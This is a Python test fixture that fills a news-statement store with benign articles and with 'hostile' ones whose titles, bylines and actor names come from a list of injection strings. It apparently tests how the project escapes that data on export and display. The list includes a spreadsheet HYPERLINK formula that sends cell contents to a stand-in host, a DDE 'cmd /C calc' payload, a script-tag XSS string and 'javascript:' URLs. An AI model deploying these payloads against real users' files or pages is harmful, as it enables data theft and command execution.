"""A filled store: articles of our own from several days and outlets, tame ones and hostile ones."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

from pourparler.types import Actor
from tests.outcomes import FEED, NOW, check, dated, failed, item, plain

if TYPE_CHECKING:
    from pourparler.protocols import Store
    from pourparler.types import Outcome

__all__ = ["HOSTILE", "fill"]

# What a page may call itself: formulas, markup, control signs, halves of letters, turned writing, and a very long one.
HOSTILE = (
    '=HYPERLINK("https://bad.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "'=already quoted",
    "\t=1+1",
    " \u200b=1+1",
    "\uff1d1+1",
    "<script>alert(1)</script>]]>&amp;",
    "a\x00b\x08c\x1b[31m\ufffe\uffff",
    "half \ud83d of a letter",
    "right \u202e to left",
    'a "quoted", comma\r\nand a second line',
    "\u2028line\u2029ends\x85",
    "long " * 2_000,
    "é\u0301😀\U0010ffff",
)


def fill(store: Store) -> None:
    """Put eight tame articles and one for each hostile title into an empty store, and a few things around them."""
    store.add_sources([FEED])
    store.note_check(check(), [item("waits")])
    run = store.begin_run("sync", NOW)
    tame = [dated(f"tame-{n}", f"2026-03-{n + 1:02d}", outlet=f"Outlet {n % 3}") for n in range(8)]
    hostile = [_hostile(n, words) for n, words in enumerate(HOSTILE)]
    store.commit([*tame, *hostile, failed("broken", retry=False), failed("busy", retry=True)])
    (first, *_) = store.statements(limit=1).rows
    store.correct("statement", first.id, "speaker", "=1+1 \x00", NOW)
    store.end_run(run, NOW, (("read", 24),))


def _hostile(number: int, words: str) -> Outcome:
    text = f"{words} said nothing.\n\nAnd no more."
    told = replace(
        plain(f"hostile-{number}", text, title=words, outlet=words, byline=words, url=f"javascript:{number}")
    )
    return replace(told, actors=(Actor(f"unknown:{number}", words[:200], "unknown", None, None, (words,), ()),))
